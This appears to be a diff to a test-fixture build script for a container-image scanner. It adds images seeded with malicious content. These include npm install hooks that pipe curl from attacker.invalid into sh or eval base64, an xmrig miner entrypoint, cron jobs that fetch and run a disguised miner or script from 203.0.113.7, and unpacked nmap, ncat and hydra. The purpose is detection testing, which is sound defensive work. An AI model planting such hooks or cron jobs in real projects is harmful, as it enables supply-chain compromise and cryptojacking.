@@ -10,6 +10,13 @@
 #   node5k   busybox + 5,000 generated packages under /app/node_modules (some scoped, some nested)
 #   alpine   busybox + a hand-written /lib/apk/db/installed (apk-tools is not packaged in Debian)
 #   rpm      busybox + two noarch rpms built by rpmbuild and installed into an rpmdb.sqlite by rpm
+#   npm-malware  busybox + /app/node_modules: a real `npm install` of packages with ordinary install hooks, plus
+#            hand-written packages: a postinstall piping curl into sh, an install file that evals base64, names from the
+#            OSV malicious sample, compromised releases (event-stream 3.3.6, ua-parser-js 0.7.29); a second layer
+#            removes one malicious package
+#   miner    busybox + an entrypoint script that downloads and starts xmrig, a cron file that downloads a miner and
+#            a user crontab piping curl into sh; a later layer deletes the cron file; config Cmd runs xmrig
+#   hacktools  busybox + Debian's nmap, ncat and hydra unpacked (apt-get download + dpkg-deb -x) with dpkg status entries
 # Each image is written as an OCI layout (NAME-oci:TAG), a docker-archive (NAME.docker.tar) and an
 # oci-archive (NAME.oci.tar), plus the root filesystem it was built from (rootfs/NAME).
 # Fixed file times and creation dates make the digests reproducible for the same package versions.
@@ -65,6 +72,12 @@ finish() {
   local name=$1 tag=$2 layout=$OUT/$1-oci
   umoci config --image "$layout:$tag" --tag "$tag" --created "$CREATED" --history.created "$CREATED" \
     --os linux --architecture amd64 --config.cmd "$3" --config.env "$4" --config.label "org.drydock.test=$name"
+  publish "$name" "$tag"
+}
+
+# publish NAME TAG: gc, and the two archive forms (after the config was written)
+publish() {
+  local name=$1 tag=$2 layout=$OUT/$1-oci
   umoci gc --layout "$layout"
   chmod -R a+rX "$layout"
   rm -f "$OUT/$name.docker.tar" "$OUT/$name.oci.tar"
@@ -326,6 +339,134 @@ build_rpm() {
   single_layer_image rpm 9.3 "$dir" /bin/sh PATH=/bin
 }
 
+# --- malicious-content samples (npm packages, miners, hacking-tool packages) ---
+
+# npm_package DIR VERSION [SCRIPTS_JSON]: a hand-written installed package named by its folder under node_modules
+npm_package() {
+  local name=${1##*node_modules/} scripts=${3:-'{}'}
+  mkdir -p "$1"
+  jq -n --arg n "$name" --arg v "$2" --argjson s "$scripts" \
+    '{name: $n, version: $v, description: "drydock test package", main: "index.js", license: "MIT", scripts: $s}' >"$1/package.json"
+  printf 'module.exports = "%s";\n' "$name" >"$1/index.js"
+}
+
+build_npm_malware() {
+  built npm-malware && { log "npm-malware exists"; return; }
+  local name=npm-malware tag=v1 layout=$OUT/npm-malware-oci work r nm
+  work=$(mktemp -d "$OUT/.work-npm-malware.XXXX")
+  layout_new "$layout" "$tag"
+  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
+  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
+  mkdir -p "$r/app"
+  cat >"$r/app/package.json" <<'JSON'
+{ "name": "drydock-malware-app", "version": "1.0.0", "private": true,
+  "dependencies": { "esbuild": "0.20.2", "core-js": "3.36.0", "bcrypt": "5.1.1", "better-sqlite3": "9.4.3" } }
+JSON
+  log "npm install (packages with ordinary install hooks: esbuild, core-js, bcrypt, better-sqlite3)"
+  (cd "$r/app" && npm install --ignore-scripts --omit=optional --no-audit --no-fund --cache "$work/npm-cache" >"$work/npm.log" 2>&1) ||
+    { cat "$work/npm.log" >&2; exit 1; }
+  nm=$r/app/node_modules
+  # Ordinary hooks, hand-written: no finding expected.
+  npm_package "$nm/husky-user" 1.0.0 '{"postinstall": "husky install"}'
+  npm_package "$nm/gyp-native" 2.1.0 '{"install": "node-gyp rebuild"}'
+  npm_package "$nm/prebuilt-native" 3.0.1 '{"install": "prebuild-install || node-gyp rebuild"}'
+  npm_package "$nm/binary-fetcher" 1.2.0 '{"postinstall": "node install.js"}'
+  cat >"$nm/binary-fetcher/install.js" <<'JS'
+const https = require('https');
+const fs = require('fs');
+const url = `https://downloads.example.org/bin/${process.platform}-${process.arch}/tool`;
+https.get(url, (res) => res.pipe(fs.createWriteStream(__dirname + '/tool', { mode: 0o755 })));
+JS
+  # (a) install hooks that download and execute, decode and eval.
+  npm_package "$nm/evil-postinstall" 1.0.0 '{"postinstall": "curl -fsSL https://attacker.invalid/payload.sh | sh"}'
+  npm_package "$nm/@evil/decoder" 0.0.3 '{"postinstall": "node install.js"}'
+  cat >"$nm/@evil/decoder/install.js" <<'JS'
+const payload = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';
+eval(Buffer.from(payload, 'base64').toString('utf8'));
+JS
+  # (b) names from the OSV malicious sample (../shared/testdata/vuln-data/osv-malicious-npm-sample).
+  npm_package "$nm/0-dns" 1.0.0
+  npm_package "$nm/@ctrl/tinycolor" 4.1.1
+  npm_package "$nm/debug" 4.4.2
+  npm_package "$nm/chalk" 5.6.1
+  # (c) compromised releases.
+  npm_package "$nm/event-stream" 3.3.6
+  npm_package "$nm/event-stream/node_modules/flatmap-stream" 0.1.1
+  npm_package "$nm/ua-parser-js" 0.7.29 '{"preinstall": "start /B node preinstall.js & node preinstall.js"}'
+  layer_commit "$layout" "$tag" "$work/b" "npm install (with malicious packages)"
+  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
+  rm -rf "$work/b/rootfs/app/node_modules/0-dns"
+  layer_commit "$layout" "$tag" "$work/b" "npm uninstall 0-dns"
+  rm -rf "$work"
+  finish "$name" "$tag" /bin/sh PATH=/bin
+}
+
+build_miner() {
+  built miner && { log "miner exists"; return; }
+  local name=miner tag=v1 layout=$OUT/miner-oci work r
+  local wallet=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
+  work=$(mktemp -d "$OUT/.work-miner.XXXX")
+  layout_new "$layout" "$tag"
+  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
+  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"
+  layer_commit "$layout" "$tag" "$work/b" "base: busybox"
+  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
+  mkdir -p "$r/usr/local/bin" "$r/etc/cron.d" "$r/var/spool/cron/crontabs"
+  cat >"$r/usr/local/bin/docker-entrypoint.sh" <<SH
+#!/bin/sh
+set -e
+if [ ! -x /opt/.cache/xmrig ]; then
+  mkdir -p /opt/.cache
+  wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O /tmp/x.tgz
+  tar xzf /tmp/x.tgz -C /opt/.cache --strip-components=1
+fi
+/opt/.cache/xmrig -o stratum+tcp://pool.example.invalid:3333 -u $wallet --donate-level 1 -B
+exec "\$@"
+SH
+  chmod 0755 "$r/usr/local/bin/docker-entrypoint.sh"
+  cat >"$r/etc/cron.d/sysupdate" <<CRON
+SHELL=/bin/sh
+*/15 * * * * root wget -q http://203.0.113.7/xmrig -O /tmp/.kswapd0 && chmod +x /tmp/.kswapd0 && /tmp/.kswapd0 -o pool.example.invalid:3333 --algo rx/0 -u x >/dev/null 2>&1 &
+CRON
+  printf '*/30 * * * * curl -fsSL http://203.0.113.7/update.sh | sh\n' >"$r/var/spool/cron/crontabs/root"
+  chmod 0600 "$r/var/spool/cron/crontabs/root"
+  layer_commit "$layout" "$tag" "$work/b" "add entrypoint and cron jobs"
+  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
+  rm -f "$work/b/rootfs/etc/cron.d/sysupdate"
+  layer_commit "$layout" "$tag" "$work/b" "remove the cron file"
+  rm -rf "$work"
+  umoci config --image "$layout:$tag" --tag "$tag" --created "$CREATED" --history.created "$CREATED" \
+    --os linux --architecture amd64 --config.entrypoint /usr/local/bin/docker-entrypoint.sh \
+    --config.cmd xmrig --config.cmd -o --config.cmd stratum+tcp://pool.example.invalid:3333 --config.cmd -u --config.cmd "$wallet" \
+    --config.cmd --donate-level --config.cmd 1 --config.env PATH=/usr/local/bin:/bin --config.env POOL_URL=stratum+tcp://pool.example.invalid:3333 \
+    --config.label "org.drydock.test=$name"
+  publish "$name" "$tag"
+}
+
+# Debian's nmap, ncat and hydra, unpacked as dpkg would and recorded in a status file written from their control files.
+build_hacktools() {
+  built hacktools && { log "hacktools exists"; return; }
+  local dir=$OUT/rootfs/hacktools debs=$OUT/debs p deb
+  busybox_rootfs "$dir"
+  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n' >"$dir/etc/os-release"
+  printf '12.5\n' >"$dir/etc/debian_version"
+  mkdir -p "$debs" "$dir/var/lib/dpkg/info"
+  : >"$dir/var/lib/dpkg/status"
+  for p in nmap ncat hydra; do
+    deb=$(ls "$debs/${p}_"*.deb 2>/dev/null | head -1 || true)
+    if [ -z "$deb" ]; then
+      (cd "$debs" && apt-get download "$p" >/dev/null 2>&1) ||
+        { log "apt-get download $p failed (needs the Debian package lists: apt-get update)"; exit 1; }
+      deb=$(ls "$debs/${p}_"*.deb | head -1)
+    fi
+    dpkg-deb -x "$deb" "$dir"
+    { dpkg-deb -f "$deb" | sed '1a Status: install ok installed'; echo; } >>"$dir/var/lib/dpkg/status"
+    dpkg-deb -c "$deb" | awk '{print substr($6, 2)}' | sed 's|/$||; /^$/d' >"$dir/var/lib/dpkg/info/$p.list"
+  done
+  find "$dir" -exec touch -h -d "@$EPOCH" {} +
+  single_layer_image hacktools v1 "$dir" /bin/sh PATH=/usr/bin:/bin
+}
+
 for image in "${WANT[@]}"; do
   case "$image" in
     busybox) build_busybox ;;
@@ -337,7 +478,10 @@ for image in "${WANT[@]}"; do
     node5k) build_node5k ;;
     alpine) build_alpine ;;
     rpm) build_rpm ;;
-    *) log "unknown image '$image' (busybox, layered, opaque, removed, debian, node, node5k, alpine, rpm)"; exit 2 ;;
+    npm-malware) build_npm_malware ;;
+    miner) build_miner ;;
+    hacktools) build_hacktools ;;
+    *) log "unknown image '$image' (busybox, layered, opaque, removed, debian, node, node5k, alpine, rpm, npm-malware, miner, hacktools)"; exit 2 ;;
   esac
 done
 echo "$OUT"
